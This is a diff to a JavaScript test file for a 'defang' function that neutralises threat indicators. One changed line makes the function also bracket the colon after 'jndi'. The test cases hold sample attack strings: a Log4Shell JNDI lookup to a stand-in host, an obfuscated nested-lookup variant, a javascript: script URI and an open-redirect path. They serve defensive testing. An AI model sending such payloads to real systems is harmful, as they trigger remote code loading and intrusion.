@@ -49,7 +49,7 @@ describe('indicators defanged', () => {
     ['user@evil.example', 'user[@]evil[.]example'],
     ['/redirect?to=//evil.example/x', '/redirect?to=//evil[.]example/x'],
     ['javascript:alert(1)', 'javascript[:]alert(1)'],
-    ['$' + '{jndi:ldap://evil.example/a}', '$[{]jndi:ldap[:]//evil[.]example/a}'],
+    ['$' + '{jndi:ldap://evil.example/a}', '$[{]jndi[:]ldap[:]//evil[.]example/a}'],
     ['$' + '{$' + '{lower:j}ndi}', '$[{]$[{]lower:j}ndi}'],
   ])('writes %s as %s', (text, expected) => {
     expect(defang(text)).toBe(expected);
